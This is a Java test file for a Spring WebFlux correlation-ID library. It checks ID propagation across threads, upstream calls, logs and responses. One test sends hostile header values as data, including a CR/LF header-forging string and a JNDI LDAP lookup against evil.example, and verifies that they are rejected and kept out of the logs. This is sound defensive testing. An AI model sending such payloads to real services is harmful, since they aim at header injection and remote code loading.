package dev.clambake.correlation;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.Executors;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import com.sun.net.httpserver.HttpServer;
import org.apache.commons.logging.Log;
import org.apache.commons.logging.LogFactory;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import reactor.core.publisher.Mono;
import reactor.core.scheduler.Schedulers;

import org.springframework.boot.SpringBootConfiguration;
import org.springframework.boot.WebApplicationType;
import org.springframework.boot.autoconfigure.EnableAutoConfiguration;
import org.springframework.boot.builder.SpringApplicationBuilder;
import org.springframework.boot.json.JsonParserFactory;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.context.annotation.Import;
import org.springframework.web.bind.annotation.GetMapping;
import org.springframework.web.bind.annotation.RestController;
import org.springframework.web.reactive.function.client.WebClient;

import dev.clambake.testsupport.RawHttp;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Correlation on a real WebFlux application (Netty on a random port) calling a real upstream
 * HTTP server on loopback through a Boot-built {@link WebClient}, with JSON console logs.
 */
@ExtendWith(OutputCaptureExtension.class)
class CorrelationWebFluxTests {

	private static final String CONTROLLER_LOGGER = HopController.class.getName();

	private static HttpServer upstream;

	private static ConfigurableApplicationContext app;

	private static int port;

	private final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();

	@BeforeAll
	static void start() throws IOException {
		upstream = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
		upstream.setExecutor(Executors.newFixedThreadPool(16));
		upstream.createContext("/echo", (exchange) -> {
			String received = String.valueOf(exchange.getRequestHeaders().getFirst("X-Correlation-ID"));
			byte[] body = received.getBytes(StandardCharsets.UTF_8);
			exchange.sendResponseHeaders(200, body.length);
			try (OutputStream out = exchange.getResponseBody()) {
				out.write(body);
			}
		});
		upstream.start();
		app = new SpringApplicationBuilder(WebFluxApplication.class).web(WebApplicationType.REACTIVE)
			.properties("server.port=0", "server.address=127.0.0.1", "clambake.logging.format=json",
					"server.max-http-request-header-size=64KB", "logging.level.dev.clambake.correlation=debug",
					"upstream.url=http://127.0.0.1:" + upstream.getAddress().getPort() + "/echo")
			.run();
		port = Integer.parseInt(app.getEnvironment().getProperty("local.server.port"));
	}

	@AfterAll
	static void stop() {
		if (app != null) {
			app.close();
		}
		if (upstream != null) {
			upstream.stop(0);
		}
	}

	@Test
	void idReachesTheUpstreamEveryLogLineAndTheResponse(CapturedOutput output) throws Exception {
		HttpResponse<String> response = get("flux-single-1");
		assertThat(response.statusCode()).isEqualTo(200);
		assertThat(response.headers().firstValue("X-Correlation-ID")).hasValue("flux-single-1");
		assertThat(response.body()).isEqualTo("flux-single-1");
		List<Map<String, Object>> lines = controllerLines(output);
		assertThat(lines).extracting((line) -> line.get("message"))
			.containsExactly("handling", "after hop", "upstream answered flux-single-1");
		assertThat(lines).allSatisfy((line) -> assertThat(line).containsEntry("correlationId", "flux-single-1"));
		// Each line is on a different thread: the event loop, bounded elastic, the client's loop
		assertThat(lines.stream().map((line) -> line.get("thread_name")).distinct()).hasSizeGreaterThan(1);
	}

	@Test
	void requestIdHeaderIsAcceptedAndMissingIdIsGenerated() throws Exception {
		HttpRequest withRequestId = HttpRequest.newBuilder(uri()).header("X-Request-ID", "from-request-id").build();
		HttpResponse<String> response = this.http.send(withRequestId, HttpResponse.BodyHandlers.ofString());
		assertThat(response.headers().firstValue("X-Correlation-ID")).hasValue("from-request-id");
		assertThat(response.body()).isEqualTo("from-request-id");
		HttpResponse<String> generated = this.http.send(HttpRequest.newBuilder(uri()).build(),
				HttpResponse.BodyHandlers.ofString());
		String id = generated.headers().firstValue("X-Correlation-ID").orElseThrow();
		assertThat(id).matches("[0-9a-f]{32}");
		assertThat(generated.body()).isEqualTo(id);
	}

	@Test
	void concurrentRequestsEachLogOnlyTheirOwnId(CapturedOutput output) throws Exception {
		List<CompletableFuture<HttpResponse<String>>> responses = new ArrayList<>();
		for (int i = 0; i < 200; i++) {
			HttpRequest request = HttpRequest.newBuilder(uri()).header("X-Correlation-ID", "flux-many-" + i).build();
			responses.add(this.http.sendAsync(request, HttpResponse.BodyHandlers.ofString()));
		}
		for (int i = 0; i < 200; i++) {
			HttpResponse<String> response = responses.get(i).get();
			assertThat(response.headers().firstValue("X-Correlation-ID")).hasValue("flux-many-" + i);
			assertThat(response.body()).isEqualTo("flux-many-" + i);
		}
		Map<String, List<Object>> messagesById = new LinkedHashMap<>();
		for (Map<String, Object> line : controllerLines(output)) {
			Object id = line.get("correlationId");
			assertThat(id).as(line.toString()).isNotNull();
			String message = (String) line.get("message");
			if (message.startsWith("upstream answered ")) {
				assertThat(message).isEqualTo("upstream answered " + id);
			}
			messagesById.computeIfAbsent(id.toString(), (key) -> new ArrayList<>()).add(message);
		}
		assertThat(messagesById).hasSize(200);
		assertThat(messagesById.values()).allSatisfy((messages) -> assertThat(messages).hasSize(3));
	}

	@Test
	void hostileHeadersAreReplacedNeverEchoedNorLogged(CapturedOutput output) throws Exception {
		Map<String, byte[]> hostile = new LinkedHashMap<>();
		hostile.put("folded CR/LF", "abc\r\n X-Forged: yes".getBytes(StandardCharsets.ISO_8859_1));
		hostile.put("10 KB", "a".repeat(10 * 1024).getBytes(StandardCharsets.ISO_8859_1));
		hostile.put("non-ASCII", "caf\u00e9-\u4e2d\u6587".getBytes(StandardCharsets.UTF_8));
		hostile.put("empty", new byte[0]);
		hostile.put("quotes", "\"quoted\"".getBytes(StandardCharsets.ISO_8859_1));
		hostile.put("jndi", "${jndi:ldap://evil.example/a}".getBytes(StandardCharsets.ISO_8859_1));
		for (Map.Entry<String, byte[]> entry : hostile.entrySet()) {
			String head = rawGet(entry.getValue());
			assertThat(head).as(entry.getKey()).startsWith("HTTP/1.1 200");
			Matcher id = Pattern.compile("(?im)^X-Correlation-ID: (.*)$").matcher(head);
			assertThat(id.find()).as(entry.getKey()).isTrue();
			assertThat(id.group(1)).as(entry.getKey()).matches("[0-9a-f]{32}");
			// Every header line is a well-formed "name: value" line: nothing was forged
			assertThat(head.lines().skip(1)).as(entry.getKey()).allMatch((line) -> line.matches("[A-Za-z0-9-]+: .*"))
				.noneMatch((line) -> line.startsWith("X-Forged"));
		}
		// A bare CR is refused by the server itself, before any application code runs
		String refused = rawGet("abc\rX-Forged: yes".getBytes(StandardCharsets.ISO_8859_1));
		assertThat(refused).startsWith("HTTP/1.1 400").doesNotContainIgnoringCase("X-Correlation-ID")
			.doesNotContain("X-Forged");
		String logged = output.toString();
		assertThat(logged).doesNotContain("${jndi").doesNotContain("\"quoted\"").doesNotContain("a".repeat(100))
			.doesNotContain("X-Forged: yes").doesNotContain("caf\u00e9");
		assertThat(logged).contains("Replaced invalid X-Correlation-ID header");
	}

	private String rawGet(byte[] value) throws IOException {
		return RawHttp.get(port, "/hop", "X-Correlation-ID", value, Duration.ofSeconds(10));
	}

	private HttpResponse<String> get(String id) throws Exception {
		HttpRequest request = HttpRequest.newBuilder(uri()).header("X-Correlation-ID", id).build();
		return this.http.send(request, HttpResponse.BodyHandlers.ofString());
	}

	private URI uri() {
		return URI.create("http://127.0.0.1:" + port + "/hop");
	}

	@SuppressWarnings("unchecked")
	private static List<Map<String, Object>> controllerLines(CapturedOutput output) {
		List<Map<String, Object>> lines = new ArrayList<>();
		for (String line : output.getOut().lines().toList()) {
			if (line.startsWith("{") && line.contains(CONTROLLER_LOGGER)) {
				Map<String, Object> json = JsonParserFactory.getJsonParser().parseMap(line);
				if (CONTROLLER_LOGGER.equals(json.get("logger_name"))) {
					lines.add(json);
				}
			}
		}
		return lines;
	}

	@SpringBootConfiguration(proxyBeanMethods = false)
	// The test class path holds JDBC for the state store's tests; this app has no database
	@EnableAutoConfiguration(excludeName = "org.springframework.boot.jdbc.autoconfigure.DataSourceAutoConfiguration")
	@Import(HopController.class)
	static class WebFluxApplication {

	}

	@RestController
	static class HopController {

		private static final Log logger = LogFactory.getLog(HopController.class);

		private final WebClient webClient;

		private final String upstreamUrl;

		HopController(WebClient.Builder builder, org.springframework.core.env.Environment environment) {
			this.webClient = builder.build();
			this.upstreamUrl = environment.getRequiredProperty("upstream.url");
		}

		@GetMapping("/hop")
		Mono<String> hop() {
			logger.info("handling");
			return Mono.just(this.upstreamUrl)
				.publishOn(Schedulers.boundedElastic())
				.doOnNext((url) -> logger.info("after hop"))
				.flatMap((url) -> this.webClient.get().uri(url).retrieve().bodyToMono(String.class))
				.doOnNext((body) -> logger.info("upstream answered " + body));
		}

	}

}
